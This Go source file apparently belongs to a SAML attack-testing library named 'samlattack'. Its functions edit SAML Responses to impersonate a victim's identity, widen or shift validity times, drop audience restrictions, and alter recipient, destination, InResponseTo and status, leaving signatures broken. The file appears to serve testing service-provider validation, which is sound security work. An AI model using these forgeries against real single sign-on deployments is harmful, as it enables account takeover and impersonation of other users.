package samlattack

import (
	"errors"
	"fmt"
	"time"

	"github.com/beevik/etree"
)

// The editors change one thing each in a Response (genuine or made by this
// package): the Response and every Assertion in it, nested or wrapped ones
// included. Signatures stay where they are, broken wherever they covered
// the change. An empty value (or a zero time) removes the attribute or
// element instead.

// ErrNothingToEdit: the document lacks the element an editor changes, and
// the editor does not make it.
var ErrNothingToEdit = errors.New("samlattack: nothing to edit")

// Status codes for SetStatus (SAML 2.0 core, 3.2.2.2).
const (
	StatusSuccess     = "urn:oasis:names:tc:SAML:2.0:status:Success"
	StatusRequester   = "urn:oasis:names:tc:SAML:2.0:status:Requester"
	StatusResponder   = "urn:oasis:names:tc:SAML:2.0:status:Responder"
	StatusAuthnFailed = "urn:oasis:names:tc:SAML:2.0:status:AuthnFailed"
)

// edit parses doc, lets f change it and writes it out.
func edit(doc []byte, f func(root *etree.Element) error) ([]byte, error) {
	d, root, err := parseResponse(doc)
	if err != nil {
		return nil, err
	}
	if err := f(root); err != nil {
		return nil, err
	}
	return write(d)
}

// setAttr sets el's attribute key to value, or removes it when value is "".
func setAttr(el *etree.Element, key, value string) {
	if value == "" {
		el.RemoveAttr(key)
		return
	}
	el.CreateAttr(key, value)
}

// instant formats t as SAML writes an xs:dateTime, in UTC; "" for the zero
// time.
func instant(t time.Time) string {
	if t.IsZero() {
		return ""
	}
	return t.UTC().Format(time.RFC3339Nano)
}

// subjectConfirmationData returns the SubjectConfirmationData elements of
// every Assertion below root.
func subjectConfirmationData(root *etree.Element) []*etree.Element {
	var out []*etree.Element
	for _, as := range assertions(root) {
		for _, s := range children(as, nsAssertion, "Subject") {
			for _, sc := range children(s, nsAssertion, "SubjectConfirmation") {
				out = append(out, children(sc, nsAssertion, "SubjectConfirmationData")...)
			}
		}
	}
	return out
}

// conditions returns the Assertion's Conditions, made (after Issuer,
// Signature and Subject, as the schema orders them) if it has none.
func conditions(assertion *etree.Element) *etree.Element {
	if c := child(assertion, nsAssertion, "Conditions"); c != nil {
		return c
	}
	c := newLike(assertion, "Conditions")
	insertAfter(assertion, c, issuerName, signatureName, subjectName)
	return c
}

// SetIdentity makes every Assertion name a's victim: its Subject NameID and
// its email attribute's values (see Attacker). It fails with ErrNoIdentity
// when an Assertion has neither.
func SetIdentity(doc []byte, a Attacker) ([]byte, error) {
	return edit(doc, func(root *etree.Element) error {
		as := assertions(root)
		if len(as) == 0 {
			return ErrNoAssertion
		}
		for _, as := range as {
			if err := a.impersonate(as); err != nil {
				return err
			}
		}
		return nil
	})
}

// SetAssertionTimes sets the window in which every Assertion is valid:
// Conditions' NotBefore and NotOnOrAfter, and the bearer
// SubjectConfirmationData's NotOnOrAfter (which SAML's Web SSO profile
// requires, with no NotBefore). A zero time removes the attribute.
func SetAssertionTimes(doc []byte, notBefore, notOnOrAfter time.Time) ([]byte, error) {
	return edit(doc, func(root *etree.Element) error {
		as := assertions(root)
		if len(as) == 0 {
			return ErrNoAssertion
		}
		for _, as := range as {
			c := conditions(as)
			setAttr(c, "NotBefore", instant(notBefore))
			setAttr(c, "NotOnOrAfter", instant(notOnOrAfter))
		}
		for _, scd := range subjectConfirmationData(root) {
			setAttr(scd, "NotOnOrAfter", instant(notOnOrAfter))
		}
		return nil
	})
}

// SetIssueInstant sets IssueInstant on the Response and every Assertion
// (a stale or future answer). The zero time removes it, which the schema
// forbids.
func SetIssueInstant(doc []byte, t time.Time) ([]byte, error) {
	return edit(doc, func(root *etree.Element) error {
		setAttr(root, "IssueInstant", instant(t))
		for _, as := range assertions(root) {
			setAttr(as, "IssueInstant", instant(t))
		}
		return nil
	})
}

// SetAudience makes audience the only Audience of every Assertion: one
// AudienceRestriction in its Conditions (made if missing) with one
// Audience. An empty audience removes every AudienceRestriction, so that
// the Assertion is meant for anyone.
func SetAudience(doc []byte, audience string) ([]byte, error) {
	return edit(doc, func(root *etree.Element) error {
		as := assertions(root)
		if len(as) == 0 {
			return ErrNoAssertion
		}
		for _, as := range as {
			c := conditions(as)
			restrictions := children(c, nsAssertion, "AudienceRestriction")
			at := len(c.Child)
			if len(restrictions) > 0 {
				at = restrictions[0].Index()
			}
			for _, r := range restrictions {
				c.RemoveChild(r)
			}
			if audience == "" {
				continue
			}
			r := newLike(as, "AudienceRestriction")
			c.InsertChildAt(at, r)
			aud := newLike(as, "Audience")
			aud.SetText(audience)
			r.AddChild(aud)
		}
		return nil
	})
}

// SetRecipient sets Recipient on every SubjectConfirmationData: the URL the
// IdP meant the answer for (the SP's assertion consumer service).
func SetRecipient(doc []byte, recipient string) ([]byte, error) {
	return edit(doc, func(root *etree.Element) error {
		scds := subjectConfirmationData(root)
		if len(scds) == 0 {
			return fmt.Errorf("%w: no SubjectConfirmationData", ErrNothingToEdit)
		}
		for _, scd := range scds {
			setAttr(scd, "Recipient", recipient)
		}
		return nil
	})
}

// SetDestination sets the Response's Destination: the URL the IdP sent it
// to.
func SetDestination(doc []byte, destination string) ([]byte, error) {
	return edit(doc, func(root *etree.Element) error {
		setAttr(root, "Destination", destination)
		return nil
	})
}

// SetInResponseTo sets InResponseTo on the Response and every
// SubjectConfirmationData: the ID of the SP's AuthnRequest the answer is
// for. An empty id removes it, making the answer unsolicited
// (IdP-initiated).
func SetInResponseTo(doc []byte, id string) ([]byte, error) {
	return edit(doc, func(root *etree.Element) error {
		setAttr(root, "InResponseTo", id)
		for _, scd := range subjectConfirmationData(root) {
			setAttr(scd, "InResponseTo", id)
		}
		return nil
	})
}

// SetStatus sets the Response's status: code is the top-level StatusCode
// (StatusSuccess, StatusRequester, StatusResponder, ...), and sub, if
// given, the nested second-level codes (StatusAuthnFailed, ...), each in
// the one before. Any StatusMessage or StatusDetail stays. The Status is
// made if missing.
func SetStatus(doc []byte, code string, sub ...string) ([]byte, error) {
	return edit(doc, func(root *etree.Element) error {
		status := child(root, nsProtocol, "Status")
		if status == nil {
			status = newLike(root, "Status")
			insertAfter(root, status, issuerName, signatureName, extensionsName)
		}
		for _, c := range children(status, nsProtocol, "StatusCode") {
			status.RemoveChild(c)
		}
		parent, at := status, 0
		for _, v := range append([]string{code}, sub...) {
			sc := newLike(root, "StatusCode")
			sc.CreateAttr("Value", v)
			parent.InsertChildAt(at, sc)
			parent, at = sc, 0
		}
		return nil
	})
}
